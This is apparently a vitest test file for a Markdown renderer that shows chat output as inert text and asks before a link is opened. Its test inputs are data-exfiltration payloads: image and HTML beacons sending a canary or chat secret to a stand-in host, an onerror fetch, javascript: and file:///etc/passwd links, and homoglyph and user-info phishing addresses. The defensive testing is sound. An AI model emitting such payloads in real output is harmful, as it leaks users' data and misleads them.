import { describe, expect, it, vi } from 'vitest';
import { act } from 'preact/test-utils';
import { renderMarkdown, violations } from './render-test-support';

const CANARY = 'CANARY-5e1f0c77';

function text(container: Element): string {
  return container.textContent ?? '';
}

describe('SafeMarkdown: the formatting it keeps', () => {
  it('renders paragraphs, emphasis, strong, strikethrough, code and lists as their elements', () => {
    const container = renderMarkdown('Hello **bold** *em* ~~gone~~ `code`\n\n- one\n- two\n\n3. three\n4. four\n\n```\nx < y\n```');
    expect(container.querySelector('strong')?.textContent).toBe('bold');
    expect(container.querySelector('em')?.textContent).toBe('em');
    expect(container.querySelector('del')?.textContent).toBe('gone');
    expect(container.querySelector('code.md-inline-code')?.textContent).toBe('code');
    expect([...container.querySelectorAll('ul > li')].map((li) => li.textContent)).toEqual(['one', 'two']);
    expect(container.querySelector('ol')?.getAttribute('start')).toBe('3');
    expect(container.querySelector('pre')?.textContent).toBe('x < y');
    expect(violations(container)).toEqual([]);
  });

  it('downgrades headings to a strong paragraph and keeps blockquotes, rules, breaks and tables', () => {
    const container = renderMarkdown('# Title\n\n> quoted\n\n---\n\nline one  \nline two\n\n| a | b |\n|:-|-:|\n| 1 | 2 |');
    expect(container.querySelector('h1, h2, h3, h4, h5, h6')).toBeNull();
    expect(container.querySelector('p.md-heading strong')?.textContent).toBe('Title');
    expect(container.querySelector('blockquote')?.textContent).toBe('quoted');
    expect(container.querySelector('hr')).not.toBeNull();
    expect(container.querySelector('br')).not.toBeNull();
    expect([...container.querySelectorAll('th')].map((cell) => cell.textContent)).toEqual(['a', 'b']);
    expect(container.querySelector('td.md-align-right')?.textContent).toBe('2');
    expect(violations(container)).toEqual([]);
  });

  it('shows task list items as text marks, never as inputs', () => {
    const container = renderMarkdown('- [x] done\n- [ ] todo');
    expect(container.querySelector('input')).toBeNull();
    expect(text(container)).toContain('☑ done');
    expect(text(container)).toContain('☐ todo');
  });

  it('verbatim mode shows the exact text, Markdown and HTML included', () => {
    const draft = '*Sure* <b>see</b> you [here](https://x.example)';
    const container = renderMarkdown(draft, { verbatim: true });
    expect(text(container)).toBe(draft);
    expect(container.querySelectorAll('*')).toHaveLength(1);
  });
});

describe('SafeMarkdown: what it never does', () => {
  it('A01: a Markdown image is inert text with its full address', () => {
    const container = renderMarkdown(`Summary: Rui asked for a summary.\n\n![logo](http://127.0.0.2:8099/l.png?d=${CANARY})`);
    expect(container.querySelector('img')).toBeNull();
    expect(container.querySelector('[data-testid="image-placeholder"]')?.textContent).toBe(
      `[image: logo — http://127.0.0.2:8099/l.png?d=${CANARY}]`,
    );
    expect(violations(container)).toEqual([]);
  });

  it('A02: a reference-style image resolves to inert text and its definition is not repeated', () => {
    const container = renderMarkdown(`All good.\n\n![status][r]\n\n[r]: http://127.0.0.2:8099/s.gif?c=${CANARY}`);
    expect(container.querySelector('img')).toBeNull();
    expect(text(container)).toContain(`[image: status — http://127.0.0.2:8099/s.gif?c=${CANARY}]`);
    expect(text(container).split('127.0.0.2')).toHaveLength(2);
    expect(violations(container)).toEqual([]);
  });

  it('A03: raw HTML is shown as the text it is', () => {
    const output = `<img src="http://127.0.0.2:8099/p?c=${CANARY}" width=1 height=1>Here you go.`;
    const container = renderMarkdown(output);
    expect(container.querySelector('img')).toBeNull();
    expect(text(container)).toBe(output);
    expect(violations(container)).toEqual([]);
  });

  it('A04: a link shows its full destination and has no href', () => {
    const container = renderMarkdown(`Your session expired. [Re-verify now](http://127.0.0.2:8099/v?k=${CANARY})`);
    expect(container.querySelector('a, [href]')).toBeNull();
    const target = container.querySelector('[data-testid="link-target"]');
    expect(target?.tagName).toBe('BUTTON');
    expect(target?.textContent).toBe(`http://127.0.0.2:8099/v?k=${CANARY}`);
    expect(text(container)).toContain('Re-verify now');
    expect(violations(container)).toEqual([]);
  });

  it('A05: SVG markup is text', () => {
    const output = `<svg width=1 height=1><image href="http://127.0.0.2:8099/i?c=${CANARY}"/></svg>`;
    const container = renderMarkdown(output);
    expect(container.querySelector('svg, image')).toBeNull();
    expect(text(container)).toBe(output);
  });

  it('B02: a link carrying the chat shows all of it', () => {
    const url = 'https://127.0.0.2:8099/x?m=my%20door%20code%20is%20CANARY-5e1f0c77';
    const container = renderMarkdown(`[previous messages](${url})`);
    expect(container.querySelector('[data-testid="link-target"]')?.textContent).toBe(url);
    expect(violations(container)).toEqual([]);
  });

  it('E01: an onerror handler in HTML is text', () => {
    const container = renderMarkdown(`Rui sent <img src=x onerror="fetch('http://127.0.0.2:8099/e')"> hi`);
    expect(container.querySelector('img')).toBeNull();
    expect(text(container)).toContain('onerror=');
    expect(violations(container)).toEqual([]);
  });

  it('E02: javascript: and data: links are shown as text, never clickable', () => {
    const container = renderMarkdown(
      "Open [this](javascript:fetch('http://127.0.0.2:8099/j')) or [that](data:text/html,<script>alert(1)</script>)",
    );
    expect(container.querySelector('button, a, script')).toBeNull();
    const inert = [...container.querySelectorAll('[data-testid="link-inert"]')].map((element) => element.textContent);
    expect(inert).toEqual(["(javascript:fetch('http://127.0.0.2:8099/j'))", '(data:text/html,<script>alert(1)</script>)']);
    expect(violations(container)).toEqual([]);
  });

  it.each([
    'vbscript:msgbox(1)',
    'file:///etc/passwd',
    'blob:https://x.example/1',
    'chrome://settings',
    'chrome-extension://abc/page.html',
    'JaVaScRiPt:alert(1)',
    'java%0ascript:alert(1)',
    '//evil.example/x',
    '/relative/path',
    'ftp://x.example/file',
  ])('%s is shown as text only', (url) => {
    const container = renderMarkdown(`[go](${url}) <${url}>`);
    expect(container.querySelector('button')).toBeNull();
    expect(violations(container)).toEqual([]);
  });

  it('does not make a link openable when a newline or tab hides in its scheme', () => {
    const container = renderMarkdown('[x](<java\tscript:alert(1)>) [y](<https://ok.example/\u200Bx>)');
    expect(container.querySelector('button')).toBeNull();
    expect(text(container)).toContain('[U+200B]');
  });

  it('shows bidi overrides as visible markers', () => {
    const container = renderMarkdown('safe \u202Egnp.exe');
    expect(text(container)).toBe('safe [U+202E]gnp.exe');
  });

  it('keeps very deep nesting flat instead of building a deep tree', () => {
    const container = renderMarkdown(`${'>'.repeat(2_000)} deep`);
    let depth = 0;
    for (let element: Element | null = container.querySelector('blockquote'); element; element = element.querySelector('blockquote')) depth += 1;
    expect(depth).toBeLessThanOrEqual(30);
    expect(text(container)).toContain('deep');
  });

  it('shows text past the parse limit as plain text', () => {
    const long = `${'a'.repeat(60_000)}**tail**`;
    const container = renderMarkdown(long);
    expect(text(container).endsWith('**tail**')).toBe(true);
  });
});

describe('SafeMarkdown: opening a link', () => {
  it('asks first, showing the full destination, and opens only on Open', async () => {
    const open = vi.fn();
    const container = renderMarkdown('[tickets](https://tickets.example.org/event/42?x=1)', { openLink: open });
    document.body.append(container);
    const target = container.querySelector<HTMLButtonElement>('[data-testid="link-target"]')!;
    await act(() => target.click());
    const dialog = container.querySelector('[data-testid="link-confirm"]');
    expect(dialog?.getAttribute('role')).toBe('dialog');
    expect(dialog?.textContent).toContain('https://tickets.example.org/event/42?x=1');
    expect(document.activeElement?.getAttribute('data-testid')).toBe('link-cancel');
    expect(open).not.toHaveBeenCalled();

    await act(() => container.querySelector<HTMLButtonElement>('[data-testid="link-cancel"]')!.click());
    expect(container.querySelector('[data-testid="link-confirm"]')).toBeNull();
    expect(open).not.toHaveBeenCalled();

    await act(() => target.click());
    await act(() => container.querySelector<HTMLButtonElement>('[data-testid="link-open"]')!.click());
    expect(open).toHaveBeenCalledExactlyOnceWith('https://tickets.example.org/event/42?x=1');
    container.remove();
  });

  it('shows an internationalised host decoded and encoded, and warns about look-alike letters', async () => {
    const container = renderMarkdown('[pay](https://раураl.com/login)');
    await act(() => container.querySelector<HTMLButtonElement>('[data-testid="link-target"]')!.click());
    const dialog = container.querySelector('[data-testid="link-confirm"]')!;
    expect(dialog.textContent).toContain('раураl.com');
    expect(dialog.textContent).toContain('xn--l-7sba6dbr.com');
    expect(dialog.querySelector('[data-testid="link-confirm-lookalike"]')).not.toBeNull();
  });

  it('names the real site when the address hides it behind user info', async () => {
    const container = renderMarkdown('[bank](https://mybank.example@evil.example/)');
    await act(() => container.querySelector<HTMLButtonElement>('[data-testid="link-target"]')!.click());
    expect(container.textContent).toContain('the site is evil.example');
  });

  it('shows an autolinked address once, not twice', () => {
    const container = renderMarkdown('see https://example.org/a and www.example.com');
    const targets = [...container.querySelectorAll('[data-testid="link-target"]')].map((element) => element.textContent);
    expect(targets).toEqual(['https://example.org/a', 'http://www.example.com/']);
    expect(text(container).match(/example\.org/g)).toHaveLength(1);
  });
});
